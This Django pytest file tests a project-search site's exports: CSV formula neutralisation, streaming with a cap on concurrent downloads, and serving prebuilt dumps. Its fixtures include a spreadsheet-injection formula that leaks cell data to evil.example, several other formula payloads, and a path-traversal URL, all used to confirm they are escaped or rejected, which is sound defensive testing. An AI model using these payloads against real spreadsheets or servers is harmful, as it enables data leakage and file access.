"""Search exports: formulas neutralised, streamed, a bounded number at once, the whole corpus prebuilt."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client

from carrefour.projects.models import Project
from carrefour.search.services import index_rebuild
from carrefour.web.exports import EXPORTS_AT_ONCE
from tests.search.factories import project_create

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")'


@pytest.fixture
def data_dir(settings: Any, tmp_path: Path) -> Path:
    """A private data directory, where the dumps are written."""
    settings.DATA_DIR = tmp_path / "data"
    settings.DATA_DIR.mkdir()
    return Path(settings.DATA_DIR)


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_csv_export_shows_formulas_as_text(client: Client, corpus: dict[str, Project]) -> None:
    project_create(HOSTILE_TITLE, organization="=1+1", summary="@SUM(1)", start_year=2020, minutes=9)
    project_create("-2+3 vélo", organization="\tcachée", start_year=2022, minutes=10)
    index_rebuild()
    response = client.get("/recherche/export.csv?start_year=2020&start_year=2022")
    rows = {row["start_year"]: row for row in _rows(response.getvalue())}
    assert rows["2020"]["title"] == "'" + HOSTILE_TITLE
    assert (rows["2020"]["organization"], rows["2020"]["summary"]) == ("'=1+1", "'@SUM(1)")
    assert (rows["2022"]["title"], rows["2022"]["organization"]) == ("'-2+3 vélo", "'\tcachée")


def test_observatoire_csv_keeps_numbers(client: Client, corpus: dict[str, Project]) -> None:
    rows = list(csv.reader(io.StringIO(client.get("/observatoire/themes.csv").content.decode())))
    assert rows[0] == ["code", "libelle", "projets"]
    assert all(row[2].isdigit() for row in rows[1:])


def test_export_is_streamed_and_slots_are_bounded(
    client: Client, corpus: dict[str, Project], data_dir: Path
) -> None:
    held = [client.get("/recherche/export.geojson?theme=alimentation") for _ in range(EXPORTS_AT_ONCE)]
    assert all(response.streaming for response in held)
    busy = client.get("/recherche/export.csv?q=jardin")
    assert busy.status_code == 503 and busy["Retry-After"] == "30"
    assert "Trop d'exports en cours" in busy.content.decode()
    # A finished download is closed by the server: its slot is free again.
    assert json.loads(b"".join(held[0].streaming_content))["type"] == "FeatureCollection"
    again = client.get("/recherche/export.csv?q=jardin")
    assert again.status_code == 200
    assert [row["title"] for row in _rows(b"".join(again.streaming_content))] == ["Jardin partagé des Lilas"]
    for response in held[1:]:
        assert json.loads(b"".join(response.streaming_content))["type"] == "FeatureCollection"


def test_unfiltered_export_serves_the_fresh_dump(
    client: Client, corpus: dict[str, Project], data_dir: Path
) -> None:
    out = io.StringIO()
    call_command("dumps", "build", stdout=out)
    assert "csv 4" in out.getvalue()
    dump = data_dir / "dumps" / "carrefour-projets.csv"
    response = client.get("/recherche/export.csv")
    assert (response.status_code, response["Location"]) == (302, "/telechargements/carrefour-projets.csv")
    served = client.get(response["Location"])
    assert served["Content-Disposition"] == 'attachment; filename="carrefour-projets.csv"'
    assert b"".join(served.streaming_content) == dump.read_bytes()
    packed = client.get(response["Location"], headers={"Accept-Encoding": "gzip"})
    assert packed["Content-Encoding"] == "gzip"
    assert gzip.decompress(b"".join(packed.streaming_content)) == dump.read_bytes()
    assert client.get("/telechargements/..%2Fmanifest.json").status_code == 404
    # A project changed after the build: the dump is stale and the export built afresh.
    project_create("Ressourcerie nouvelle", minutes=20)
    index_rebuild()
    fresh = client.get("/recherche/export.csv", headers={"Accept-Encoding": "gzip"})
    assert "Ressourcerie nouvelle" in gzip.decompress(b"".join(fresh.streaming_content)).decode()
